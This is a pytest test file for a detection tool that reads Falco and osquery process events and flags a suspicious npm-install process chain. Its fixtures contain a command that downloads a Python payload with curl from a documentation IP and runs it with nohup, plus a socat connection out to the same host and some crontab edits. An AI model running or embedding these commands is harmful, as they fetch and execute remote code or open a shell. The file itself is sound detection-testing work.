"""`pratique watch --ingest`: one set of rules over what Falco and osquery tell, from a file, a pipe, a log that turns."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from pratique.adapters.watcher.following import Lines
from tests.standins.watching import given, words

TIME = "2026-10-07T07:21:01.871149301Z"
DROP = "/tmp/ld.py"


def _falco(pid: int, ppid: int, exe: str, line: str, parent: str = "", **more: Any) -> str:
    fields = {"evt.type": "execve", "evt.res": "SUCCESS", "proc.pid": pid, "proc.ppid": ppid, "proc.exepath": exe,
              "proc.cmdline": line, "proc.cwd": "/srv/shop/", "proc.pname": parent or None, **more}  # fmt: skip
    return json.dumps({"rule": "every start", "priority": "Notice", "source": "syscall", "time": TIME, "output": "",
                       "output_fields": fields})  # fmt: skip


def _osquery(pid: int, parent: int, path: str, line: str) -> str:
    columns = {"pid": str(pid), "parent": str(parent), "path": path, "cmdline": line, "cwd": "/srv/shop", "uid": "1000",
               "euid": "1000", "time": "1791357661"}  # fmt: skip
    return json.dumps({"name": "pack_incident_starts", "action": "added", "unixTime": 1791357661, "columns": columns})


CHAIN = (
    (10, 1, "/usr/bin/node", "node /usr/lib/node_modules/npm/bin/npm-cli.js install"),
    (11, 10, "/usr/bin/node", "node setup.js"),
    (12, 11, "/usr/bin/dash", f"sh -c curl -o {DROP} -s http://203.0.113.7:8000/6 && nohup python3 {DROP} &"),
    (13, 12, "/usr/bin/python3.11", f"python3 {DROP}"),
)
"""The shape of a known incident on Linux, as any sensor would tell it."""
LINES = {
    "falco": [_falco(*one) for one in CHAIN],
    "osquery": [_osquery(*one) for one in CHAIN],
}


def _run(home: Path, *options: object, text: str = "") -> tuple[int, list[dict[str, Any]], str]:
    done = subprocess.run(
        words("--json", *options), env=given(home), input=text, capture_output=True, text=True, check=False, timeout=60
    )
    return done.returncode, [json.loads(line) for line in done.stdout.splitlines()], done.stderr


@pytest.mark.parametrize("sensor", sorted(LINES))
def test_one_set_of_rules_serves_every_sensor(sensor: str, tmp_path: Path) -> None:
    code, records, told = _run(tmp_path, "--ingest", sensor, text="\n".join(LINES[sensor]) + "\n")
    assert code == 4, told
    found = {one["detection"]["rule"]: one for one in records if "detection" in one}
    assert {"unattributed-chain", "unattributed-drop"} <= set(found)
    drop = found["unattributed-drop"]
    assert drop["events"][0]["source"] == sensor
    assert drop["events"][0]["path"] == DROP
    assert drop["detection"]["process"]["script"] == DROP
    assert [one["name"] for one in drop["detection"]["process"]["ancestors"]] == ["sh", "node", "npm"]
    sums = records[-1]["sums"]
    assert (sums["lines"], sums["events"], sums.get("refused", 0)) == (4, 4, 0)
    assert sums["ended"] == "end of input"
    assert any("does not tell was not seen" in gap for gap in sums["gaps"])


def test_ancestors_that_a_sensor_tells_by_title_or_version_are_known(tmp_path: Path) -> None:
    lines = [
        _falco(20, 19, "/usr/bin/crontab", "crontab -", "sh", **{"proc.aname[2]": "npm install"}),
        _falco(21, 19, "/usr/bin/socat", "socat TCP:203.0.113.7:1 -", "python3.11"),
        _falco(22, 19, "/usr/bin/crontab", "crontab -e", "bash", **{"proc.aname[2]": "sshd"}),
    ]
    _, records, _ = _run(tmp_path, "--ingest", "falco", "--level", "high", text="\n".join(lines) + "\n")
    found = [one["detection"]["process"] for one in records if "detection" in one]
    assert [(one["pid"], one["ancestors"][-1]["name"]) for one in found] == [(20, "npm"), (21, "python")]


def test_lines_that_are_no_records_are_counted_and_said(tmp_path: Path) -> None:
    text = "\n".join([LINES["falco"][0], "Fri Oct  7 07:21:00 2026: Falco initialized", "{}", "[1]", LINES["falco"][3]])
    code, records, _ = _run(tmp_path, "--ingest", "falco", text=text)
    sums = records[-1]["sums"]
    assert (sums["lines"], sums["events"], sums["refused"]) == (5, 2, 3)
    assert any("line 2 is no JSON" in gap for gap in sums["gaps"])
    assert code == 4


def test_without_arguments_it_reads_a_file_once_and_says_what_cannot_be_read(tmp_path: Path) -> None:
    log = tmp_path / "osqueryd.results.log"
    log.write_text("\n".join(LINES["osquery"]), "utf-8")
    code, records, _ = _run(tmp_path, "--ingest", "osquery", "--from", log, "--once")
    assert code == 4
    assert records[-1]["sums"]["events"] == 4
    for name in ("nothing-here", "."):
        code, _, told = _run(tmp_path, "--ingest", "osquery", "--from", tmp_path / name, "--once")
        assert code == 2
        assert told.startswith("pratique: ")
        assert "Traceback" not in told
    code, _, told = _run(tmp_path, "--ingest", "falco", "--for", "3")
    assert code == 2
    assert "--for" in told


def test_a_log_is_followed_through_its_rotation_until_a_signal(tmp_path: Path) -> None:
    log = tmp_path / "falco.log"
    log.write_text(LINES["falco"][0] + "\n", "utf-8")
    process = subprocess.Popen(
        words("--json", "--ingest", "falco", "--from", log), env=given(tmp_path), stdout=subprocess.PIPE, text=True
    )
    assert process.stdout is not None
    try:
        with log.open("a", encoding="utf-8") as file:
            file.write(LINES["falco"][1] + "\n" + LINES["falco"][2][:40])
            file.flush()
            time.sleep(0.2)
            file.write(LINES["falco"][2][40:] + "\n")
        first = json.loads(process.stdout.readline())
        assert first["detection"]["rule"] == "unattributed-chain"
        log.rename(tmp_path / "falco.log.1")
        log.write_text(LINES["falco"][3] + "\n", "utf-8")
        second = json.loads(process.stdout.readline())
        assert second["detection"]["process"]["pid"] == 13
        process.send_signal(signal.SIGTERM)
        rest = [json.loads(line) for line in process.stdout]
        assert process.wait(20) == 0
    finally:
        process.kill()
        process.wait()
        process.stdout.close()
    sums = rest[-1]["sums"]
    assert sums["ended"] == "SIGTERM"
    assert sums["events"] == 4
    assert any("replaced or cut 1 times" in gap for gap in sums["gaps"])


def test_a_pipe_ends_with_its_writer(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)

    def write() -> None:
        with pipe.open("w", encoding="utf-8") as file:
            for line in LINES["falco"]:
                file.write(line + "\n")
                file.flush()

    thread = threading.Thread(target=write)
    thread.start()
    _, records, _ = _run(tmp_path, "--ingest", "falco", "--from", pipe)
    thread.join(20)
    assert records[-1]["sums"]["events"] == 4


def test_a_file_that_is_cut_is_begun_anew(tmp_path: Path) -> None:
    path = tmp_path / "log"
    path.write_bytes(b"one\ntwo\n")
    lines = Lines(str(path), follow=True)
    found: list[bytes] = []
    try:
        for line in lines.each(lambda: len(found) >= 3):
            found.append(line)
            if line == b"two":
                path.write_bytes(b"3\n")
    finally:
        lines.close()
    assert found == [b"one", b"two", b"3"]
    assert lines.begun_anew == 1
